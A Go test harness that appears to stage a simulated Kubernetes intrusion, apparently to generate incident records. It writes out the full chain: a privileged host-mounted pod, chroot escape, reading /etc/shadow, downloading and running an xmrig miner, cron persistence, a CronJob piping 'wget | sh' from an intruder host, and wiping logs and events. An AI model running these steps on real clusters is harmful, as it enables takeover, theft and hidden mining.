//go:build incident

package record

import (
	"context"
	"errors"
	"fmt"
	"os"
)

const tuner = `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"node-tuner","namespace":"kube-system","labels":{"k8s-app":"node-tuner"}},
"spec":{"hostPID":true,"terminationGracePeriodSeconds":0,"containers":[{"name":"tuner","image":"` + toolImage + `","imagePullPolicy":"Never",
"command":["sleep","3600"],"securityContext":{"privileged":true},"volumeMounts":[{"name":"host","mountPath":"/host"}]}],
"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}`

const cron = `{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"node-tuner-sync","namespace":"kube-system"},
"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"backoffLimit":0,"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"sync","image":"` + toolImage + `",
"imagePullPolicy":"Never","command":["sh","-c","wget -q -O - http://%s:8000/sync.sh | sh"]}]}}}}}}`

// privilegedPod is made from inside, with what the intruder's server holds.
func (a *attack) privilegedPod() {
	a.shell.runs(a.t, fmt.Sprintf("wget -q -O /tmp/.p http://%s:8000/pod.json", a.intruder.Addr4))
	a.shell.runs(a.t, tool+" POST /api/v1/namespaces/kube-system/pods /tmp/.p | head -c 200")
	pod := a.k.WaitReady(a.t, "kube-system", "node-tuner")
	a.diary.fact("tuner_uid", pod.UID)
	a.diary.fact("tuner_container", pod.Containers["tuner"].ID)
	a.diary.fact("tuner_address", pod.Addr4.String())
}

// inTuner runs something in the privileged pod, from outside with the token.
func (a *attack) inTuner(line string) string {
	return a.intruder.kubectl(a.t, a.k, a.token, "--namespace=kube-system", "exec", "node-tuner", "--", "sh", "-c", line)
}

func (a *attack) exec() {
	a.intruder.kubectl(a.t, a.k, a.token, "--namespace=kube-system", "get", "pods")
	a.inTuner("id; ls /host")
}

func (a *attack) escape() {
	a.intruder.kubectl(a.t, a.k, a.token, "--namespace=kube-system", "exec", "node-tuner", "--", "chroot", "/host", "/bin/sh", "-c", "id; cat /etc/hostname; ls /etc/cron.d")
}

func (a *attack) credentials() {
	a.inTuner("chroot /host cat /etc/shadow")
}

const pool = "pool.example.com:3333"

func (a *attack) mine() {
	a.inTuner(fmt.Sprintf("mkdir -p /host/var/tmp/.sys && wget -q -O /host/var/tmp/.sys/xmrig http://%s:8000/xmrig && chmod 755 /host/var/tmp/.sys/xmrig", a.intruder.Addr4))
	a.inTuner("chroot /host nohup nice -n 19 /var/tmp/.sys/xmrig -o stratum+tcp://" + pool + " -u made.up.wallet --donate-level 1 --threads 1 >/dev/null 2>&1 </dev/null &")
}

func (a *attack) hostCron() {
	a.inTuner("echo '*/5 * * * * root /var/tmp/.sys/xmrig -o stratum+tcp://" + pool + "' >/host/etc/cron.d/node-tuner")
}

// cronJob is made from outside, and has run once when this returns.
func (a *attack) cronJob() {
	file := a.intruder.home + "/cron.json"
	if err := os.WriteFile(file, fmt.Appendf(nil, cron, a.intruder.Addr4), 0o600); err != nil {
		a.t.Fatal(err)
	}
	a.intruder.kubectl(a.t, a.k, a.token, "create", "--validate=false", "--filename="+file)
	a.k.Eventually(a.t, "the CronJob's first run", func(ctx context.Context) error {
		var list struct {
			Items []struct {
				Metadata struct{ Name string }
				Status   struct{ Succeeded int }
			}
		}
		if err := a.k.API(ctx, "GET", "/apis/batch/v1/namespaces/kube-system/jobs", nil, &list); err != nil {
			return err
		}
		if len(list.Items) == 0 || list.Items[0].Status.Succeeded == 0 {
			return errors.New("it has not run")
		}
		return nil
	})
}

func (a *attack) wipeHost() {
	a.inTuner("for f in auth.log syslog; do : >/host/var/log/$f; done; rm -f /host/var/log/wtmp /host/var/log/lastlog")
}

func (a *attack) wipePod() {
	a.shell.runs(a.t, ": >/var/log/web/status.log")
	a.shell.runs(a.t, "rm -f /tmp/.p "+tool)
}

func (a *attack) wipeEvents() {
	a.intruder.kubectl(a.t, a.k, a.token, "--namespace=kube-system", "delete", "events", "--all")
	a.intruder.kubectl(a.t, a.k, a.token, "--namespace=shop", "delete", "events", "--all")
}
